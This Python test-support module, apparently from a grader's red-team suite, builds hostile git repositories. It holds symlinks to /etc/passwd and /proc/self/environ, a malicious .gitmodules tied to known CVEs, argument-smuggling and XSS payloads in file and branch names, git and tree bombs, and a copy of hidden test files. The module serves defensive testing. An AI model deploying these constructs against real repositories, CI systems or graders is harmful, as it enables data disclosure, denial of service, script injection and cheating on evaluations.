"""Hostile repositories made with git's plumbing: what a folder on disk cannot hold.

Each builder writes the bare repository ``<root>/<name>.git`` with branch ``main`` and
returns the commit SHA. Objects are written with ``hash-object``/``mktree``/``commit-tree``,
so trees may hold submodule links, symlinks to host files, names no file system accepts,
and deduplicated "git bomb" trees.
"""

from __future__ import annotations

import os
import subprocess
from collections.abc import Callable, Sequence
from pathlib import Path

from tests.redteam.support import CHALLENGE_DIR, HONEST

Entry = tuple[str, str, str, str]  # mode, type, object id, name
_ENV = {
    "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
    "LC_ALL": "C",
    "GIT_CONFIG_NOSYSTEM": "1",
    "GIT_CONFIG_GLOBAL": os.devnull,
    **{
        f"GIT_{role}_{key}": value
        for role in ("AUTHOR", "COMMITTER")
        for key, value in {
            "NAME": "Sample Candidate",
            "EMAIL": "candidate@example.com",
            "DATE": "2024-01-01T12:00:00+00:00",
        }.items()
    },
}


class Repo:
    """A bare repository being written object by object."""

    def __init__(self, root: Path, name: str) -> None:
        self.path = root / f"{name}.git"
        self.git("init", "--bare", "--quiet", "--initial-branch=main", "--template=", in_repo=False)

    def git(
        self, *args: str, stdin: bytes = b"", in_repo: bool = True, date: str | None = None
    ) -> str:
        where = [f"--git-dir={self.path}"] if in_repo else []
        target = [] if in_repo else [str(self.path)]
        dated = {"GIT_AUTHOR_DATE": date, "GIT_COMMITTER_DATE": date} if date else {}
        done = subprocess.run(
            ["git", *where, *args, *target],
            input=stdin,
            env={**_ENV, **dated},
            capture_output=True,
            check=True,
            timeout=120,
        )
        return done.stdout.decode().strip()

    def blob(self, data: bytes) -> str:
        return self.git("hash-object", "-w", "--stdin", stdin=data)

    def tree(self, entries: Sequence[Entry]) -> str:
        lines = b"".join(f"{m} {t} {o}\t".encode() + n.encode() + b"\0" for m, t, o, n in entries)
        return self.git("mktree", "-z", "--missing", stdin=lines)

    def commit(
        self, tree: str, message: str = "Submit", parent: str | None = None, date: str = ""
    ) -> str:
        parents = ["-p", parent] if parent else []
        return self.git("commit-tree", tree, *parents, "-m", message, date=date or None)

    def branch(self, commit: str, name: str = "main") -> str:
        self.git("update-ref", f"refs/heads/{name}", commit)
        return commit

    def honest(self) -> list[Entry]:
        """Tree entries of the honest solution's files."""
        return [
            ("100644", "blob", self.blob(path.read_bytes()), path.name)
            for path in sorted(HONEST.iterdir())
            if path.is_file()
        ]


def with_links(root: Path, name: str) -> str:
    """D12: README.md and data.txt are symlinks to host files; D7: a submodule beside them."""
    repo = Repo(root, name)
    entries = [
        *repo.honest(),
        ("120000", "blob", repo.blob(b"/etc/passwd"), "README.md"),
        ("120000", "blob", repo.blob(b"/proc/self/environ"), "data.txt"),
        ("120000", "blob", repo.blob(b"../../../../../../root"), "home"),
    ]
    return repo.branch(repo.commit(repo.tree(entries)))


def with_submodule(root: Path, name: str) -> str:
    """D7: a submodule link and .gitmodules, plus a symlink named like the submodule's git dir."""
    repo = Repo(root, name)
    gitmodules = b'[submodule "evil"]\n\tpath = sub\n\turl = https://example.invalid/evil.git\n'
    entries = [
        *repo.honest(),
        ("100644", "blob", repo.blob(gitmodules), ".gitmodules"),
        ("160000", "commit", "1" * 40, "sub"),
        ("120000", "blob", repo.blob(b".git/modules/sub/hooks"), "hooks"),
    ]
    return repo.branch(repo.commit(repo.tree(entries)))


def with_hostile_submodule_config(root: Path, name: str) -> str:
    """D7: .gitmodules with a dash-led URL and a ``../`` name (CVE-2018-17456, -11235)."""
    repo = Repo(root, name)
    gitmodules = b'[submodule "../../modules/x"]\n\tpath = sub\n\turl = -u./payload\n'
    entries = [
        *repo.honest(),
        ("100644", "blob", repo.blob(gitmodules), ".gitmodules"),
        ("160000", "commit", "2" * 40, "sub"),
    ]
    return repo.branch(repo.commit(repo.tree(entries)))


HOSTILE_NAMES = (
    "-rf --no-preserve-root.py",
    "new\nline.py",
    "\x1b[31mred\x1b[0m.py",
    "\u202eyp.evil",
    "x" * 300 + ".py",
    "Solution.py",  # a case collision with solution.py
)


def with_hostile_names(root: Path, name: str) -> str:
    """D13: file names with dashes, newlines, ANSI, bidi overrides, 300 characters."""
    repo = Repo(root, name)
    junk = repo.blob(b"x = 1\n")
    entries = repo.honest() + [("100644", "blob", junk, n) for n in HOSTILE_NAMES]
    return repo.branch(repo.commit(repo.tree(entries)))


def with_dotdot(root: Path, name: str) -> str:
    """D13: a tree entry named ``..`` (git's fsck refuses it on fetch)."""
    repo = Repo(root, name)
    inner = repo.tree([("100644", "blob", repo.blob(b"owned\n"), "passwd")])
    entries = [*repo.honest(), ("040000", "tree", inner, "..")]
    return repo.branch(repo.commit(repo.tree(entries)))


def git_bomb(root: Path, name: str, *, levels: int = 5, width: int = 10) -> str:
    """D14: ``width ** levels`` files from ``levels + 1`` distinct objects."""
    repo = Repo(root, name)
    oid, mode, kind = repo.blob(b"boom\n"), "100644", "blob"
    for _ in range(levels):
        oid = repo.tree([(mode, kind, oid, f"d{i}") for i in range(width)])
        mode, kind = "040000", "tree"
    return repo.branch(repo.commit(repo.tree([*repo.honest(), ("040000", "tree", oid, "bomb")])))


def tree_bomb(root: Path, name: str) -> str:
    """D19: about 1 KB of objects whose nested trees describe 10^10 files."""
    return git_bomb(root, name, levels=10, width=10)


def long_message(root: Path, name: str, *, megabytes: int = 12) -> str:
    """D20: a commit whose message is ``megabytes`` MB of escapes and text (packs to ~50 KB)."""
    repo = Repo(root, name)
    message = "\x1b[31m fixed it! " * (megabytes * 1024 * 1024 // 16)  # 16 characters
    tree = repo.tree(repo.honest())
    commit = repo.git("commit-tree", tree, "-F", "-", stdin=message.encode())
    return repo.branch(commit)


def big_blob(root: Path, name: str, *, megabytes: int = 3) -> str:
    """D14: one large file (the suite grades it with a 1 MB repository cap)."""
    repo = Repo(root, name)
    data = os.urandom(megabytes * 1024 * 1024)
    entries = [*repo.honest(), ("100644", "blob", repo.blob(data), "model.bin")]
    return repo.branch(repo.commit(repo.tree(entries)))


def two_commits(root: Path, name: str) -> str:
    """D16: ``main`` moved after submission; returns the *first* (submitted) commit."""
    repo = Repo(root, name)
    first = repo.commit(repo.tree(repo.honest()), "Submit the solution")
    wrong = repo.blob(b"def add(a, b):\n    return 0\n\n\ndef double(n):\n    return 0\n")
    entries = [e if e[3] != "solution.py" else (e[0], e[1], wrong, e[3]) for e in repo.honest()]
    repo.branch(repo.commit(repo.tree(entries), "Rewrite after the deadline", parent=first))
    return first


def late_rewrite(root: Path, name: str) -> str:
    """D24: the honest solution on 1 March, a broken rewrite on 3 March; returns the first."""
    repo = Repo(root, name)
    first = repo.commit(repo.tree(repo.honest()), "Submit", date="2024-03-01T12:00:00+00:00")
    wrong = repo.blob(b"def add(a, b):\n    return 0\n\n\ndef double(n):\n    return 0\n")
    entries = [e if e[3] != "solution.py" else (e[0], e[1], wrong, e[3]) for e in repo.honest()]
    late = repo.commit(repo.tree(entries), "Late", parent=first, date="2024-03-03T12:00:00+00:00")
    repo.branch(late)
    return first


def markup_branch(root: Path, name: str) -> str:
    """E2: a branch and a file whose names are HTML, and a commit message that is too."""
    repo = Repo(root, name)
    noisy = repo.blob(b"def helper():\n    print('debug')\n")
    entries = [*repo.honest(), ("100644", "blob", noisy, "<img src=x onerror=alert(1)>.py")]
    commit = repo.commit(repo.tree(entries), "<script>alert(1)</script>")
    repo.branch(commit)
    return repo.branch(commit, MARKUP_BRANCH)


def hidden_copy(root: Path, name: str) -> str:
    """C9: a byte-for-byte copy of a hidden test file, under another name."""
    repo = Repo(root, name)
    data = (CHALLENGE_DIR / "tests" / "test_functions.py").read_bytes()
    entries = [*repo.honest(), ("100644", "blob", repo.blob(data), "what_they_test.py")]
    return repo.branch(repo.commit(repo.tree(entries)))


MARKUP_BRANCH = "<svg/onload=alert(1)>"
CRAFTED: dict[str, Callable[[Path, str], str]] = {
    "C9-copy": hidden_copy,
    "D7-submodule": with_submodule,
    "D7-gitmodules": with_hostile_submodule_config,
    "D12-links": with_links,
    "D13-names": with_hostile_names,
    "D13-dotdot": with_dotdot,
    "D14-bomb": git_bomb,
    "D14-blob": big_blob,
    "D19-treebomb": tree_bomb,
    "D20-message": long_message,
    "D24-late": late_rewrite,
    "D16-moved": two_commits,
    "E2-markup": markup_branch,
}
